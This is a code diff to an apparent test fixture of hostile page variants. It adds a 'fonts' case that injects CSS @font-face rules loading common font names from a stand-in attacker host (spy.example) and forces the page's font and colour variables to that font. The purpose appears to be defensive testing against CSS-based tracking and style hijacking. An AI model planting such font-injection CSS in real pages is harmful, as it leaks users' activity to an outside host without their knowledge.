@@ -56,6 +56,22 @@ const PAGES: Readonly<Record<string, Hostile>> = {
   shadowed: { script: SHADOWED },
   tidy: { script: TIDY },
   plain: {},
+  /** Tokens that are not its own, and fonts that it would be told by what is written in them. */
+  fonts: {
+    around: [
+      `<style>
+        ${['Spy', 'Segoe UI', 'Roboto', 'Liberation Sans', '-apple-system', 'system-ui', 'sans-serif']
+          .map(
+            (name) =>
+              `@font-face { font-family: "${name}"; src: url("https://spy.example/${encodeURIComponent(name)}"); }`,
+          )
+          .join('\n')}
+        * { --font: Spy !important; --text-s: 12px Spy !important; --text-m: 13px Spy !important; --text-l: 14px Spy !important;
+          --title: 16px Spy !important; --ink: red !important; --paper: red !important; }
+      </style>`,
+      '',
+    ],
+  },
   /** A form's named child stands in for the form's own property. */
   clobbered: {
     around: [
